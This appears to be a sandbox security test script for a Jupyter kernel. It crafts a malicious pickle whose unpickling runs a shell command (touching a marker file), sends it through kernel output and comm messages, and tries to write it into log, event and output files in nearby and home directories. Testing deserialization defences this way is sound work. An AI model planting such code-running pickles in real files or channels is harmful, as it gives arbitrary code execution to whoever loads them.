# Sends objects that run code when they are unpickled, by every way out of the kernel.
# %%
import os
import pickle

marker = TARGETS["marker"]


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/pickle-{marker}",)


raw = pickle.dumps(Bomb())
kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_socket
parent = kernel.get_parent()
session.send(socket, "display_data", {"data": {"application/python-pickle": raw.hex()}, "metadata": {}}, parent, buffers=[raw])
session.send(socket, "comm_open", {"comm_id": "1", "target_name": "x", "data": {}}, parent, buffers=[raw] * 3)
session.send(socket, "stream", {"name": "stdout", "text": raw.decode("latin-1")}, parent, metadata={"pickle": raw.hex()})
for place in (".", "..", os.path.expanduser("~"), "../s"):
    for name in ("evidence", "events.jsonl", "outputs.pkl", "weights.jsonl", "kernel.log"):
        try:
            open(f"{place}/{name}", "wb").write(raw)
        except OSError as error:
            print("kept out:", error)
# %% base
